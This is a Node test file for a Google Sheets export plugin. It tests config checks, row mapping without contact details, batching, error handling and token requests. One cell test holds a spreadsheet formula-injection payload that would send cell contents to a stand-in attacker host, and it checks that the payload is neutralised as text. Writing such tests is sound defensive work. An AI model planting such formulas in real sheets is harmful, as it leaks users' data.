import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { test } from 'node:test';
import { createEventMapper } from '../../core/delivery/mapper.ts';
import type { CanonicalEvent, Classification, JsonObject, JsonValue, MappedEvent, PluginContext, RequestDescriptor, VendorResponse } from '../../core/sdk/index.ts';
import sheets, {
  appendRange, appendUrl, cellValue, classifyAppend, columnsOf, refusedRows, MAX_BYTES, MAX_CELL_CHARACTERS, MAX_ROWS, readSheetsTokenAnswer, sheetsConfigWarnings, sheetsTokenRequest,
  spreadsheetIdOf, validateSheetsConfig,
} from './index.ts';

const NOW = Date.parse('2026-11-30T12:00:00.000Z');
const SHEET_ID = '1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms';
const SA_EMAIL = 'signal-sheets@shop-analytics.iam.gserviceaccount.com';
const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
const KEY_FILE = JSON.stringify({
  type: 'service_account', project_id: 'shop-analytics', client_email: SA_EMAIL, token_uri: 'https://oauth2.googleapis.com/token',
  private_key: privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(),
});
const CONFIG = { spreadsheet_id: `https://docs.google.com/spreadsheets/d/${SHEET_ID}/edit#gid=0`, sheet_name: 'Web events', service_account_key: KEY_FILE };
const ctx = (config: Record<string, JsonValue> = {}, warnings: string[] = []): PluginContext => ({
  config: { ...CONFIG, ...config }, variant: 'default', integrationId: 'pi-7f3c', revisionId: 'r', options: {}, now: NOW, accessToken: 'ya29.test-token',
  warn: (message) => warnings.push(message),
});
const event = (overrides: Partial<CanonicalEvent> = {}): CanonicalEvent => ({
  type: 'track', event: 'Order Completed', messageId: 'm-1', userId: 'u-1', anonymousId: 'df_abc123def456', timestamp: '2026-11-30T11:59:58.250Z', receivedAt: '2026-11-30T11:59:58.400Z',
  properties: { order_id: 'ORD-1', revenue: 74.97, currency: 'EUR', email: 'jane@example.com', products: [{ sku: 'SKU-1', price: 24.99 }] },
  context: { ip: '203.0.113.42', userAgent: 'Mozilla/5.0', traits: { email: 'jane@example.com', phone: '+44 7700 900123' }, page: { url: 'https://shop.example.com/thanks?email=jane%40example.com&utm_source=news', referrer: 'https://www.google.com/' } },
  ...overrides,
} as CanonicalEvent);
const mapOne = (e: CanonicalEvent, config: Record<string, JsonValue> = {}) => createEventMapper(sheets, { variant: 'default', blueprint: null }, ctx(config))(e);
/** The row's cells of a mapped event. */
const cells = (result: { payload: JsonObject | null }): JsonValue[] => (Array.isArray(result.payload?.values) ? result.payload.values : []);
const mapped = (id: string, values: JsonValue[]): MappedEvent => ({ id, event: event({ messageId: id }), payload: { values } });
const answer = (status: number, json?: JsonValue, headers: Record<string, string> = {}): VendorResponse => ({ status, headers, body: json === undefined ? '' : JSON.stringify(json), ...(json === undefined ? {} : { json }) });
const googleError = (status: number, code: string, message: string, reason?: string) => answer(status, {
  error: { code: status, message, status: code, ...(reason === undefined ? {} : { details: [{ '@type': 'type.googleapis.com/google.rpc.ErrorInfo', reason, domain: 'googleapis.com' }] }) },
});
const request = (events: number): RequestDescriptor => ({ method: 'POST', url: appendUrl(SHEET_ID, "'Web events'!A1"), eventIds: Array.from({ length: events }, (_, i) => `e${i}`) });
const classify = (response: VendorResponse, events = 2, config: Record<string, JsonValue> = {}) => classifyAppend(response, request(events), ctx(config));
const reasonOf = (c: Classification): string => ('reason' in c ? c.reason : '');
const statusOf = (c: Classification): string => ('status' in c ? c.status : 'perEvent');
const appended = (rows: number) => answer(200, {
  spreadsheetId: SHEET_ID, tableRange: "'Web events'!A1:K41",
  updates: { spreadsheetId: SHEET_ID, updatedRange: `'Web events'!A42:K${41 + rows}`, updatedRows: rows, updatedColumns: 11, updatedCells: rows * 11 },
});

test('the definition: id, category, limits within Sheets\' quotas, the token exchange, no deletion forwarding, no consent by default', () => {
  assert.equal(sheets.id, 'google_sheets');
  assert.equal(sheets.category, 'cloud_storage');
  assert.deepEqual(sheets.batch, { maxEvents: 500, maxBytes: 2_000_000 });
  assert.ok(sheets.rateLimit.rps * 60 + (sheets.rateLimit.burst ?? 0) <= 60, 'under 60 write requests a minute per user');
  assert.deepEqual(sheets.accessToken?.usedBy, ['delivery']);
  assert.equal(sheets.forgetPerson, undefined, 'rows in the customer\'s sheet are not deleted by Signal');
  assert.deepEqual(sheets.consent, []);
});

test('the spreadsheet id: the id itself, or taken from a pasted URL (also a signed-in /u/1/ one)', () => {
  assert.equal(spreadsheetIdOf({ spreadsheet_id: SHEET_ID }), SHEET_ID);
  assert.equal(spreadsheetIdOf({ spreadsheet_id: ` https://docs.google.com/spreadsheets/d/${SHEET_ID}/edit?gid=0#gid=0 ` }), SHEET_ID);
  assert.equal(spreadsheetIdOf({ spreadsheet_id: `https://docs.google.com/spreadsheets/u/1/d/${SHEET_ID}/edit` }), SHEET_ID);
  assert.equal(spreadsheetIdOf({ spreadsheet_id: `https://docs.google.com/spreadsheets/d/${SHEET_ID}` }), SHEET_ID);
  assert.equal(spreadsheetIdOf({ spreadsheet_id: 'not an id' }), undefined);
});

test('validateConfig: bad spreadsheets, tab names, columns and credentials, each named with what is expected', () => {
  const problems = (config: Record<string, JsonValue>) => validateSheetsConfig({ ...CONFIG, ...config });
  assert.deepEqual(problems({}), []);
  assert.deepEqual(problems({ spreadsheet_id: ' ' }), [{ field: 'spreadsheet_id', message: 'is required: the spreadsheet\'s id, or its URL as the browser shows it (https://docs.google.com/spreadsheets/d/<id>/edit)' }]);
  assert.match(problems({ spreadsheet_id: 'https://docs.google.com/spreadsheets/d/e/2PACX-1vQz9/pubhtml' })[0]!.message, /"Publish to the web" link, whose id the Sheets API does not know/);
  assert.match(problems({ spreadsheet_id: 'https://docs.google.com/document/d/1abcdefghijklmnopqrstuvwxyz/edit' })[0]!.message, /not a spreadsheet's URL/);
  assert.match(problems({ spreadsheet_id: 'my sheet' })[0]!.message, /^is "my sheet": a spreadsheet id has letters, digits, - and _ only/);
  assert.deepEqual(problems({ sheet_name: 'x'.repeat(101) }), [{ field: 'sheet_name', message: 'has 101 characters: a Google Sheets tab name has at most 100' }]);
  assert.deepEqual(problems({ columns: [{ header: 'Revenue', path: 'revenue' }] }).map((p) => p.field), ['columns']);
  assert.match(problems({ columns: [{ header: 'Revenue', path: 'revenue' }] })[0]!.message, /^columns\[0\] \("Revenue"\) path "revenue": it starts with "revenue", which is no field of a Signal event .*did you mean properties\.revenue/);
  assert.match(problems({ columns: [{ header: 'User', path: 'UserId' }] })[0]!.message, /did you mean "userId" \(names are case-sensitive\)/);
  assert.match(problems({ columns: [{ header: 'Bad', path: 'properties.a b' }] })[0]!.message, /^columns\[0\] \("Bad"\) path "properties.a b": "a b" in "properties.a b" is not a valid path segment/);
  assert.match(problems({ columns: [{ header: 'Email', path: 'traits.email||context.traits.email' }] })[0]!.message, /empty alternative/);
  assert.match(problems({ columns: [{ header: ' ', path: 'event' }] })[0]!.message, /^columns\[0\] has no header/);
  assert.match(problems({ columns: [{ header: 'Event', path: '' }] })[0]!.message, /^columns\[0\] \("Event"\) has no path/);
  assert.match(problems({ columns: ['event'] })[0]!.message, /^columns\[0\] is "event": each column is \{ "header"/);
  assert.deepEqual(problems({ service_account_key: '' }).map((p) => p.field), ['refresh_token'], 'no credential');
  assert.deepEqual(problems({ service_account_key: '{"type":"service_account"}' }).map((p) => p.field), ['service_account_key']);
  assert.deepEqual(problems({ service_account_key: '', refresh_token: '1//0gabc' }).map((p) => p.field), ['client_id', 'client_secret'], 'a refresh token needs its OAuth client');
  assert.deepEqual(problems({ service_account_key: '', refresh_token: '1//0gabc', client_id: 'c-1.apps.googleusercontent.com', client_secret: 'GOCSPX-s' }), []);
});

test('configWarnings: a column of contact information while it is left out, a header given twice', () => {
  assert.deepEqual(sheetsConfigWarnings({ columns: [{ header: 'Email', path: 'traits.email|context.traits.email' }, { header: 'IP', path: 'context.ip' }, { header: 'email', path: 'event' }] }), [
    { field: 'columns', message: 'columns[0] ("Email") reads traits.email|context.traits.email, contact information: its cells stay empty while include_contact_info is off' },
    { field: 'columns', message: 'columns[1] ("IP") reads context.ip, contact information: its cells stay empty while include_contact_info is off' },
    { field: 'columns', message: 'columns[2] ("email"): another column has the same header; the sheet\'s columns are told apart by position only' },
  ]);
  assert.deepEqual(sheetsConfigWarnings({ include_contact_info: true, columns: [{ header: 'Email', path: 'traits.email' }] }), []);
  assert.deepEqual(sheetsConfigWarnings({}), []);
});

test('the default columns: a row without contact information — no email, IP or URL query; properties as JSON', () => {
  assert.deepEqual(columnsOf({}).map((c) => c.header), ['Timestamp', 'Type', 'Event', 'User ID', 'Anonymous ID', 'Page URL', 'Referrer', 'Properties', 'Traits', 'Message ID', 'Received At']);
  const result = mapOne(event());
  assert.deepEqual(result.payload, {
    values: [
      '2026-11-30T11:59:58.250Z', 'track', 'Order Completed', 'u-1', 'df_abc123def456', 'https://shop.example.com/thanks', 'https://www.google.com/',
      '{"order_id":"ORD-1","revenue":74.97,"currency":"EUR","products":[{"sku":"SKU-1","price":24.99}]}', '', 'm-1', '2026-11-30T11:59:58.400Z',
    ],
  });
  assert.ok(!JSON.stringify(result.payload).includes('jane'));
  const { event: _event, ...pageCall } = event({ type: 'page', name: 'Home', properties: {} });
  const page = mapOne(pageCall as CanonicalEvent);
  assert.deepEqual(cells(page), ['2026-11-30T11:59:58.250Z', 'page', 'Home', 'u-1', 'df_abc123def456', 'https://shop.example.com/thanks', 'https://www.google.com/', '', '', 'm-1', '2026-11-30T11:59:58.400Z'], 'a page call\'s name in Event; empty properties an empty cell');
  const emailUser = mapOne(event({ userId: 'jane@example.com' }));
  assert.equal(cells(emailUser)[3], '', 'a userId that is an email address is contact information too');
});

test('include_contact_info: Email and Phone columns after Anonymous ID, and every value as the event has it', () => {
  assert.deepEqual(columnsOf({ include_contact_info: true }).map((c) => c.header).slice(3, 7), ['User ID', 'Anonymous ID', 'Email', 'Phone']);
  const result = mapOne(event(), { include_contact_info: true });
  assert.deepEqual(cells(result).slice(3, 8), ['u-1', 'df_abc123def456', 'jane@example.com', '+44 7700 900123', 'https://shop.example.com/thanks?email=jane%40example.com&utm_source=news']);
  assert.match(String(cells(result)[9]), /"email":"jane@example.com"/);
});

test('configured columns: paths with alternatives, numbers and booleans as they are, objects and lists as JSON, missing values empty', () => {
  const columns = [
    { header: 'Event', path: 'event|name' }, { header: 'Revenue', path: 'properties.revenue' }, { header: 'Member', path: 'properties.member' },
    { header: 'SKUs', path: 'properties.products[].sku' }, { header: 'Coupon', path: 'properties.coupon' }, { header: 'Campaign', path: 'context.campaign' },
  ];
  const result = mapOne(event({ properties: { revenue: 10, member: false, products: [{ sku: 'A' }, { sku: 'B' }] }, context: { campaign: { name: 'spring', source: 'news' } } as CanonicalEvent['context'] }), { columns });
  assert.deepEqual(result.payload, { values: ['Order Completed', 10, false, '["A","B"]', '', '{"name":"spring","source":"news"}'] });
});

test('an event whose every column is empty is not sent, with a warning', () => {
  const result = mapOne(event(), { columns: [{ header: 'Coupon', path: 'properties.coupon' }] });
  assert.equal(result.payload, null);
  assert.deepEqual(result.warnings, ['every column is empty for this event (none of the columns\' paths has a value): no row appended']);
});

test('cells: cut to Sheets\' 50,000-character limit with a warning; USER_ENTERED text that would run as a formula is kept as text', () => {
  const long = mapOne(event({ properties: { note: 'x'.repeat(60_000) } }), { columns: [{ header: 'Note', path: 'properties.note' }] });
  assert.equal(String(cells(long)[0]).length, MAX_CELL_CHARACTERS);
  assert.deepEqual(long.warnings, ['columns[0] ("Note"): 60,000 characters, cut to Google Sheets\' 50,000-character cell limit']);
  assert.equal(cellValue(`${'a'.repeat(49_999)}😀`, 'RAW', () => {}), 'a'.repeat(49_999), 'no half of a surrogate pair');
  const noop = () => {};
  assert.equal(cellValue('=IMPORTXML("https://evil.example/?"&A1,"//a")', 'USER_ENTERED', noop), '\'=IMPORTXML("https://evil.example/?"&A1,"//a")');
  assert.equal(cellValue('+44 7700 900123', 'USER_ENTERED', noop), "'+44 7700 900123");
  assert.equal(cellValue('@SUM(A1)', 'USER_ENTERED', noop), "'@SUM(A1)");
  assert.equal(cellValue('-5', 'USER_ENTERED', noop), '-5', 'a plain number stays a number');
  assert.equal(cellValue('2026-11-30', 'USER_ENTERED', noop), '2026-11-30', 'a date is parsed by Sheets as typed');
  // Typed text Sheets would change is kept as text: a 16+ digit id (Sheets keeps 15 digits of a number), a leading apostrophe (Sheets' own marker, dropped).
  assert.equal(cellValue('12345678901234567890', 'USER_ENTERED', noop), "'12345678901234567890");
  assert.equal(cellValue('1234567890123456', 'USER_ENTERED', noop), "'1234567890123456");
  assert.equal(cellValue('123456789012345', 'USER_ENTERED', noop), '123456789012345', '15 digits stay a number');
  assert.equal(cellValue("'quoted", 'USER_ENTERED', noop), "''quoted", 'Sheets drops the first apostrophe, keeping the text');
  assert.equal(cellValue('12345678901234567890', 'RAW', noop), '12345678901234567890', 'RAW stores text as it is');
  assert.equal(cellValue("'quoted", 'RAW', noop), "'quoted");
  assert.equal(cellValue('=1+1', 'RAW', noop), '=1+1', 'RAW never runs a formula: stored as text as it is');
  assert.equal(cellValue(null, 'RAW', noop), '');
});

test('the range: the tab\'s name always quoted, quotes doubled; without a tab, the first visible one', () => {
  assert.equal(appendRange('Sheet1'), "'Sheet1'!A1");
  assert.equal(appendRange('My Sheet'), "'My Sheet'!A1");
  assert.equal(appendRange("Bob's events"), "'Bob''s events'!A1");
  assert.equal(appendRange(undefined), 'A1');
  assert.equal(appendUrl(SHEET_ID, "'My Sheet'!A1"), `https://sheets.googleapis.com/v4/spreadsheets/${SHEET_ID}/values/'My%20Sheet'!A1:append`);
  assert.equal(appendUrl(SHEET_ID, "'a/b'!A1"), `https://sheets.googleapis.com/v4/spreadsheets/${SHEET_ID}/values/'a%2Fb'!A1:append`);
});

test('send: one append of many rows — the documented URL, valueInputOption and INSERT_ROWS, the token, a ValueRange of rows', () => {
  const [append, ...more] = sheets.send([mapped('m-1', ['a', 1]), mapped('m-2', ['b', true])], ctx());
  assert.equal(more.length, 0);
  assert.deepEqual(append, {
    method: 'POST',
    url: `https://sheets.googleapis.com/v4/spreadsheets/${SHEET_ID}/values/'Web%20events'!A1:append`,
    query: [['valueInputOption', 'RAW'], ['insertDataOption', 'INSERT_ROWS']],
    headers: { authorization: 'Bearer ya29.test-token', 'content-type': 'application/json' },
    body: { majorDimension: 'ROWS', values: [['a', 1], ['b', true]] },
    eventIds: ['m-1', 'm-2'],
  });
  const [entered] = sheets.send([mapped('m-1', ['a'])], ctx({ value_input_option: 'USER_ENTERED', sheet_name: '' }));
  assert.equal(entered!.url, `https://sheets.googleapis.com/v4/spreadsheets/${SHEET_ID}/values/A1:append`);
  assert.deepEqual(entered!.query, [['valueInputOption', 'USER_ENTERED'], ['insertDataOption', 'INSERT_ROWS']]);
  assert.throws(() => sheets.send([mapped('m-1', ['a'])], ctx({ spreadsheet_id: 'nope' })), /config\.spreadsheet_id is no spreadsheet id/);
});

test('send: at most 500 rows and 2 MB a request, every event once, in order', () => {
  const many = Array.from({ length: 1201 }, (_, i) => mapped(`m-${i}`, [`row ${i}`]));
  const requests = sheets.send(many, ctx());
  assert.deepEqual(requests.map((r) => r.eventIds.length), [MAX_ROWS, MAX_ROWS, 201]);
  assert.deepEqual(requests.flatMap((r) => r.eventIds), many.map((m) => m.id));
  const big = Array.from({ length: 100 }, (_, i) => mapped(`b-${i}`, ['y'.repeat(49_000)]));
  const sized = sheets.send(big, ctx());
  assert.ok(sized.length > 1);
  for (const r of sized) assert.ok(Buffer.byteLength(JSON.stringify(r.body)) <= MAX_BYTES);
});

test('classify: 200 with updatedRows the rows sent delivered; fewer dead-lettered, not retried; no AppendValuesResponse retried', () => {
  assert.deepEqual(classify(appended(2)), { status: 'delivered' });
  const fewer = classify(appended(1));
  assert.equal(statusOf(fewer), 'dead_letter');
  assert.equal(reasonOf(fewer), 'Google Sheets answered 1 row appended of the 2 sent (updatedRange \'Web events\'!A42:K42): check the sheet before replaying these dead letters, which may write rows twice');
  assert.match(reasonOf(classify(answer(200, { spreadsheetId: SHEET_ID, updates: { spreadsheetId: SHEET_ID } }))), /^Google Sheets answered 0 rows appended of the 2 sent/, 'proto3 JSON leaves out a 0');
  const nothing = classify(answer(200, { spreadsheetId: SHEET_ID, tableRange: "'Web events'!A1:K41" }));
  assert.equal(statusOf(nothing), 'dead_letter', 'Sheets\' own answer without updates: nothing written, not sent again blindly');
  assert.match(reasonOf(nothing), /^Google Sheets answered 0 rows appended of the 2 sent: check the sheet before replaying/);
  assert.equal(statusOf(classify(answer(200, { ok: true }))), 'retry', 'JSON that is not Sheets\' answer');
  const page = classify(answer(200, undefined));
  assert.equal(statusOf(page), 'retry');
  assert.match(reasonOf(page), /without the Sheets API's AppendValuesResponse/);
});

test('classify: 429 and rate-limit reasons throttled after Retry-After, 5xx and 408 retried', () => {
  const quota = "Quota exceeded for quota metric 'Write requests' and limit 'Write requests per minute per user' of service 'sheets.googleapis.com' for consumer 'project_number:123'.";
  const limited = classifyAppend({ ...googleError(429, 'RESOURCE_EXHAUSTED', quota, 'RATE_LIMIT_EXCEEDED'), headers: { 'retry-after': '30' } }, request(2), ctx());
  assert.deepEqual(limited, { status: 'retry', throttled: true, retryAfterMs: 30_000, reason: `Google Sheets asks to slow down (HTTP 429 RESOURCE_EXHAUSTED: ${quota}): its quotas are 60 write requests a minute per user (a service account is one) and 300 per project; retrying later at a lower rate` });
  assert.equal(statusOf(classify(googleError(403, 'PERMISSION_DENIED', 'Rate Limit Exceeded', 'RATE_LIMIT_EXCEEDED'))), 'retry');
  assert.deepEqual(classify(googleError(503, 'UNAVAILABLE', 'The service is currently unavailable.')), { status: 'retry', reason: 'Google Sheets failed (HTTP 503 UNAVAILABLE: The service is currently unavailable.)' });
  assert.equal(statusOf(classify(answer(500, undefined))), 'retry');
  assert.equal(statusOf(classify(answer(408, undefined))), 'retry');
});

test('classify: 400s dead-lettered with Google\'s message and a hint — the tab, a full spreadsheet, an Excel file, a protected range', () => {
  const range = classify(googleError(400, 'INVALID_ARGUMENT', "Unable to parse range: 'Web events'!A1"));
  assert.deepEqual(range, { status: 'dead_letter', reason: 'Google Sheets cannot find the tab "Web events" (HTTP 400 INVALID_ARGUMENT: Unable to parse range: \'Web events\'!A1): check config.sheet_name — the tab\'s name exactly as its label reads, spaces and case included — or leave it empty for the first tab; then replay the dead letters' });
  assert.match(reasonOf(classify(googleError(400, 'INVALID_ARGUMENT', 'This action would increase the number of cells in the workbook above the limit of 10000000 cells.'))), /^the spreadsheet is full .*10 million cells/);
  assert.match(reasonOf(classify(googleError(400, 'FAILED_PRECONDITION', 'This operation is not supported for this document'))), /^the file is not a Google Sheets spreadsheet .*Save as Google Sheets/);
  assert.match(reasonOf(classify(googleError(400, 'INVALID_ARGUMENT', 'You are trying to edit a protected cell or object. Please contact the spreadsheet owner to remove protection if you need to edit.'))), /^Google Sheets refused the rows: the tab "Web events" is protected/);
  assert.deepEqual(classify(googleError(400, 'INVALID_ARGUMENT', 'Invalid JSON payload received.')), { status: 'dead_letter', reason: 'Google Sheets refused the rows (HTTP 400 INVALID_ARGUMENT: Invalid JSON payload received.): check config.spreadsheet_id, config.sheet_name and config.columns; then replay the dead letters' });
  assert.deepEqual(classify(answer(413, undefined)), { status: 'split', reason: 'Google Sheets refused the request\'s size (HTTP 413): sending the rows in two requests' });
  assert.equal(statusOf(classify(answer(413, undefined), 1)), 'dead_letter');
});

test('classify: a 400 naming a row dead-letters that row alone with Google\'s words and its column; the others, not written, are sent again at once without it', () => {
  const struct = 'Invalid values[1][7]: struct_value {\n}\n';
  const named = classify(answer(400, { error: { code: 400, message: struct, status: 'INVALID_ARGUMENT', errors: [{ domain: 'global', message: struct, reason: 'badRequest' }] } }), 3);
  assert.deepEqual(named, { perEvent: {
    e0: { status: 'resend', reason: `Google Sheets refused the request for another row of it (HTTP 400 INVALID_ARGUMENT: Invalid values[1][7]: struct_value { }) and wrote none of its rows: sent again without it` },
    e1: { status: 'dead_letter', reason: 'Google Sheets refused this row\'s values in column 8 ("Properties") (HTTP 400 INVALID_ARGUMENT: Invalid values[1][7]: struct_value { }): check the event\'s value there and config.columns (config.value_input_option too); then replay the dead letter' },
    e2: { status: 'resend', reason: `Google Sheets refused the request for another row of it (HTTP 400 INVALID_ARGUMENT: Invalid values[1][7]: struct_value { }) and wrote none of its rows: sent again without it` },
  } });
  // The field's form, in the message and in a BadRequest detail; a row beyond the request is no row of it.
  const field = "Invalid value at 'data.values[2]' (type.googleapis.com/google.protobuf.ListValue), \"x\"";
  const violation = answer(400, { error: { code: 400, message: field, status: 'INVALID_ARGUMENT', details: [{ '@type': 'type.googleapis.com/google.rpc.BadRequest', fieldViolations: [{ field: 'data.values[2]', description: field }, { field: 'data.values[0]', description: 'Invalid value' }] }] } });
  assert.deepEqual(refusedRows(violation.json, 3), [{ row: 0 }, { row: 2 }]);
  assert.deepEqual(refusedRows(violation.json, 2), [{ row: 0 }], 'values[2] of a two-row request names no row of it');
  const two = classify(violation, 3);
  assert.ok('perEvent' in two);
  assert.deepEqual(Object.fromEntries(Object.entries(two.perEvent).map(([id, o]) => [id, o.status])), { e0: 'dead_letter', e1: 'resend', e2: 'dead_letter' });
  assert.match(reasonOf(two.perEvent.e1!), /^Google Sheets refused the request for 2 other rows of it .*sent again without them$/);
  assert.match(reasonOf(two.perEvent.e0!), /^Google Sheets refused this row's values \(HTTP 400/, 'no cell named: no column');
  assert.deepEqual(refusedRows({ error: 'invalid' }, 3), [], 'not Google\'s error answer');
});

test('classify: a 400 about the values naming no row splits a request of several rows down to the row; one row is dead-lettered; another 400 stays whole', () => {
  const cell = googleError(400, 'INVALID_ARGUMENT', 'Your input contains more than the maximum of 50000 characters in a single cell.');
  assert.deepEqual(classify(cell, 2), { status: 'split', reason: 'Google Sheets refused a value of the request without saying which row\'s (HTTP 400 INVALID_ARGUMENT: Your input contains more than the maximum of 50000 characters in a single cell.): sending the rows in two requests, down to the row it refuses' });
  assert.equal(statusOf(classify(cell, 1)), 'dead_letter', 'the one row it refuses');
  assert.equal(statusOf(classify(googleError(400, 'INVALID_ARGUMENT', 'Invalid JSON payload received.'), 500)), 'dead_letter', 'not about the values: every half would fail alike');
});

test('classify: 403 names the service account\'s email to share the sheet with (or the API to enable, the scope); 404 the spreadsheet; 401 the credential', () => {
  const denied = classify(googleError(403, 'PERMISSION_DENIED', 'The caller does not have permission'));
  assert.deepEqual(denied, { status: 'dead_letter', reason: `Google Sheets refused to write to the spreadsheet (HTTP 403 PERMISSION_DENIED: The caller does not have permission): share the spreadsheet with the service account's email ${SA_EMAIL} as an Editor (Share > add ${SA_EMAIL} > Editor); then replay the dead letters` });
  const asUser = classify(googleError(403, 'PERMISSION_DENIED', 'The caller does not have permission'), 2, { service_account_key: '', refresh_token: '1//0g', client_id: 'c.apps.googleusercontent.com', client_secret: 's' });
  assert.match(reasonOf(asUser), /the Google account that authorised Signal \(config\.refresh_token\) needs edit access/);
  assert.match(reasonOf(classify(googleError(403, 'PERMISSION_DENIED', 'Google Sheets API has not been used in project 123 before or it is disabled. Enable it by visiting …', 'SERVICE_DISABLED'))), /^the Google Sheets API is not enabled in the credential's Google Cloud project/);
  assert.match(reasonOf(classify(googleError(403, 'PERMISSION_DENIED', 'Request had insufficient authentication scopes.', 'ACCESS_TOKEN_SCOPE_INSUFFICIENT'))), /lacks the https:\/\/www\.googleapis\.com\/auth\/spreadsheets scope/);
  assert.deepEqual(classify(googleError(404, 'NOT_FOUND', 'Requested entity was not found.')), { status: 'dead_letter', reason: `Google Sheets has no spreadsheet ${SHEET_ID} (HTTP 404 NOT_FOUND: Requested entity was not found.): check config.spreadsheet_id (the spreadsheet's URL, or the id after /d/ in it) and that the spreadsheet was not deleted; then replay the dead letters` });
  assert.match(reasonOf(classify(googleError(401, 'UNAUTHENTICATED', 'Request had invalid authentication credentials.'))), /^Google Sheets refused the access token, also once renewed/);
});

test('the token exchange: the service account\'s assertion for the spreadsheets scope, or the refresh-token grant', () => {
  const assertion = sheetsTokenRequest(ctx());
  assert.equal(assertion.url, 'https://oauth2.googleapis.com/token');
  const form = new URLSearchParams(String(assertion.body));
  const claims = JSON.parse(Buffer.from(form.get('assertion')!.split('.')[1]!, 'base64url').toString()) as { iss: string; scope: string };
  assert.deepEqual([claims.iss, claims.scope], [SA_EMAIL, 'https://www.googleapis.com/auth/spreadsheets']);
  const refresh = sheetsTokenRequest(ctx({ service_account_key: '', refresh_token: '1//0gabc', client_id: 'c.apps.googleusercontent.com', client_secret: 'GOCSPX-s' }));
  assert.equal(new URLSearchParams(String(refresh.body)).get('grant_type'), 'refresh_token');
  assert.deepEqual(readSheetsTokenAnswer(answer(200, { access_token: 'ya29.a', expires_in: 3599, token_type: 'Bearer' })), { accessToken: 'ya29.a', expiresInSeconds: 3599 });
  assert.throws(() => readSheetsTokenAnswer(answer(400, { error: 'invalid_scope', error_description: 'Invalid OAuth scope.' })), /enable the Google Sheets API/);
});
